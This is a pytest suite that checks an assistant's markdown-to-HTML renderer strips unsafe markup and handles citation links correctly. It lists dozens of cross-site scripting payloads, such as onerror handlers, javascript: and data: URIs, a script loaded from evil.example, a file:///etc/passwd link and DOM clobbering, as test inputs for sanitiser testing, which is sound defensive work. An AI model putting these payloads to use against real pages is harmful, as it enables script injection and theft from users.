"""What comes out of `render_html` is judged as a browser would: parsed, then looked at element by element."""

from uuid import UUID

import pytest
from bs4 import BeautifulSoup, Tag
from hypothesis import given, settings
from hypothesis import strategies as st

from assistant.markup import SCHEMES, render_html
from assistant.types import Citation

ALLOWED = {
    *("p", "br", "hr", "h1", "h2", "h3", "h4", "h5", "h6", "blockquote", "pre", "code", "ul", "ol", "li"),
    *("em", "strong", "s", "mark", "a", "table", "thead", "tbody", "tr", "th", "td"),
}


def cited(marker: int, title: str = "Runbook", headings: tuple[str, ...] = ("Mitigation",)) -> Citation:
    return Citation(
        marker=marker,
        chunk_id=UUID(int=marker),
        document_id=UUID(int=99),
        title=title,
        headings=headings,
        start=0,
        end=4,
        quote="text",
        content_hash="abc",
    )


def parsed(markdown: str, *citations: Citation) -> BeautifulSoup:
    return BeautifulSoup(render_html(markdown, citations), "html.parser")


def citations_in(soup: BeautifulSoup) -> list[str]:
    return [str(a["data-marker"]) for a in soup.select("a.citation")]


def assert_harmless(soup: BeautifulSoup) -> None:
    for element in soup.find_all(True):
        assert isinstance(element, Tag)
        assert element.name in ALLOWED
        for name, value in element.attrs.items():
            assert not name.startswith("on")
            assert name in {"href", "title", "target", "rel", "class", "start", "data-marker", "data-chunk"}
            if name == "href" and "citation" not in element.get("class", []):
                assert str(value).split(":")[0].lower() in SCHEMES


HOSTILE = [
    "<script>window.hacked = 1</script>",
    "<ScRiPt src=//evil.example/x.js></sCrIpT>",
    "<img src=x onerror=alert(1)>",
    "<svg/onload=alert(1)>",
    "<svg><animate onbegin=alert(1) attributeName=x></svg>",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
    "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
    "<a href='javascript:alert(1)'>x</a>",
    "<div style='background:url(javascript:alert(1))'>x</div>",
    "<base href=//evil.example>",
    "<form action=//evil.example><input autofocus onfocus=alert(1)>",
    "<!--><img src=x onerror=alert(1)>-->",
    "<![CDATA[<script>alert(1)</script>]]>",
    "[x](javascript:alert(1))",
    "[x](JaVaScRiPt:alert(1))",
    "[x](java\tscript:alert(1))",
    "[x](&#106;avascript:alert(1))",
    "[x](&#x6A;&#x61;vascript&colon;alert(1))",
    "[x](\x01javascript:alert(1))",
    "[x](<javascript:alert(1)>)",
    "[x](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
    "[x](data:image/svg+xml,<svg/onload=alert(1)>)",
    "[x](vbscript:msgbox(1))",
    "[x](file:///etc/passwd)",
    "[x](//evil.example)",
    "[x](/api/v1/rfc)",
    "[x](#/rfc/1)",
    "[x](https://ok.example 'title\" onmouseover=\"alert(1)')",
    '[x](https://ok.example" onmouseover="alert(1))',
    "[x]\n\n[x]: javascript:alert(1)",
    "<javascript:alert(1)>",
    "![x](https://evil.example/pixel.png)",
    "![x](javascript:alert(1))",
    '![x" onerror="alert(1)](x.png)',
    "![<img src=x onerror=alert(1)>](x.png)",
    "[![a](x.png)](javascript:alert(1))",
    "[<img src=x onerror=alert(1)>](https://ok.example)",
    "[a [b](javascript:alert(1)) c](https://ok.example)",
    "*[x*](javascript:alert(1))*",
    "`<img src=x onerror=alert(1)>`",
    '```"><img src=x onerror=alert(1)>\n<script>alert(1)</script>\n```',
    '``` x" onload="alert(1)\ny\n```',
    "    <script>alert(1)</script>",
    "> <script>alert(1)</script>",
    "| <img src=x onerror=alert(1)> |\n|---|\n| [x](javascript:alert(1)) |",
    "# <svg onload=alert(1)>",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "[1](javascript:alert(1))",
    "[1]: javascript:alert(1)\n\n[1]",
    "[[1]](javascript:alert(1))",
    "[NEEDS CLARIFICATION: <img src=x onerror=alert(1)>]",
    "[NEEDS CLARIFICATION: [x](javascript:alert(1))]",
    "<a class=citation data-marker=1 href='#passage-x'>[1]</a>",
    "\x00<scr\x00ipt>alert(1)</scr\x00ipt>",
    "<p id=main class=drawer>clobbered</p><img name=getElementById>",
]


@pytest.mark.parametrize("markdown", HOSTILE)
def test_hostile_markdown_becomes_harmless(markdown: str) -> None:
    assert_harmless(parsed(markdown, cited(1)))


@pytest.mark.parametrize("inner", ['"><img src=x onerror=alert(1)>', "' onclick='alert(1)", "</a><script>"])
def test_hostile_titles_stay_inside_the_attribute(inner: str) -> None:
    soup = parsed("See [1].", cited(1, title=inner, headings=(inner,)))
    assert_harmless(soup)
    link = soup.select_one("a.citation")
    assert link is not None
    assert link["title"] == f"{inner} › {inner}"


@given(st.text(alphabet="[]()<>!*_`#|~\\&:;\"'/=-1 \n\tajsx", max_size=120))
@settings(max_examples=150, deadline=None)
def test_no_mix_of_markdown_signs_gets_through(markdown: str) -> None:
    assert_harmless(parsed(markdown, cited(1)))


@pytest.mark.parametrize("markdown", ["> " * 5000, "[" * 5000, "*a " * 5000, "- " * 3000, "[1](" * 3000])
def test_deep_nesting_renders(markdown: str) -> None:
    assert_harmless(parsed(markdown, cited(1)))


def test_a_known_marker_links_to_its_passage() -> None:
    link = parsed("Delete old data [1].", cited(1)).select_one("a.citation")
    assert link is not None
    assert link.text == "[1]"
    assert link["href"] == f"#passage-{UUID(int=1)}"
    assert link["data-chunk"] == str(UUID(int=1))
    assert "target" not in link.attrs


def test_markers_work_in_every_place_where_text_goes() -> None:
    soup = parsed("# H [1]\n\n- **b [2]**[1]\n\n> q [3][1]\n\n| t |\n|---|\n| [2] |", *map(cited, (1, 2, 3)))
    assert citations_in(soup) == ["1", "2", "1", "3", "1", "2"]


@pytest.mark.parametrize(
    "markdown",
    [
        "[2]",
        "[0]",
        "[01]",
        "[-1]",
        "[1",
        "1]",
        "[ 1]",
        "[1.5]",
        "[99999]",
        "[١]",
        "`[1]`",
        "```\n[1]\n```",
        r"\[1]",
    ],
)
def test_what_is_no_known_marker_stays_text(markdown: str) -> None:
    soup = parsed(markdown, cited(1))
    assert citations_in(soup) == []
    assert markdown.strip("`\\\n") in soup.text


def test_a_definition_in_a_passage_cannot_take_over_a_marker() -> None:
    soup = parsed("Safe [1].\n\n[1]: https://evil.example", cited(1))
    assert citations_in(soup) == ["1", "1"]
    assert all(str(a["href"]).startswith("#passage-") for a in soup.find_all("a"))


def test_a_marker_followed_by_an_address_is_an_ordinary_link() -> None:
    soup = parsed("[1](https://ok.example)", cited(1))
    assert citations_in(soup) == []
    assert [a["href"] for a in soup.find_all("a")] == ["https://ok.example"]


def test_a_marker_inside_a_link_wins_over_the_link() -> None:
    soup = parsed("[see [1]](https://ok.example)", cited(1))
    assert citations_in(soup) == ["1"]
    assert len(soup.find_all("a")) == 1


def test_outside_links_open_apart_and_tell_nothing() -> None:
    link = parsed("[docs](https://ok.example/a?b=1&c=2)").a
    assert link is not None
    assert (link["href"], link["target"]) == ("https://ok.example/a?b=1&c=2", "_blank")
    assert "noopener" in link["rel"]
    assert "noreferrer" in link["rel"]


@pytest.mark.parametrize("target", ["/settings", "other.md", "#/rfc/1", "//evil.example", "ftp://x.example"])
def test_other_links_keep_their_text_only(target: str) -> None:
    soup = parsed(f"Read [the page]({target}).")
    assert soup.find_all("a") == []
    assert soup.text.strip() == "Read the page."


def test_an_image_becomes_its_description() -> None:
    assert parsed("![A *graph*](https://x.example/g.png)").text.strip() == "A *graph*"


def test_open_questions_are_marked() -> None:
    mark = parsed("Load: [NEEDS CLARIFICATION: how many requests per second?]").mark
    assert mark is not None
    assert mark.text == "NEEDS CLARIFICATION: how many requests per second?"
    assert mark["class"] == ["clarify"]


def test_ordinary_markdown_renders() -> None:
    html = render_html("## T\n\n1. a\n2. ~~b~~\n\n```sh\nls <x>\n```\n\n| a | b |\n|---|---|\n| 1 | 2 |")
    assert "<h2>T</h2>" in html
    assert "<s>b</s>" in html
    assert "ls &lt;x&gt;" in html
    assert html.count("<td>") == 2


def test_rendering_keeps_nothing_from_one_call_to_the_next() -> None:
    assert citations_in(parsed("[1]", cited(1))) == ["1"]
    assert citations_in(parsed("[1]")) == []


def test_nothing_gives_nothing() -> None:
    assert render_html("") == ""
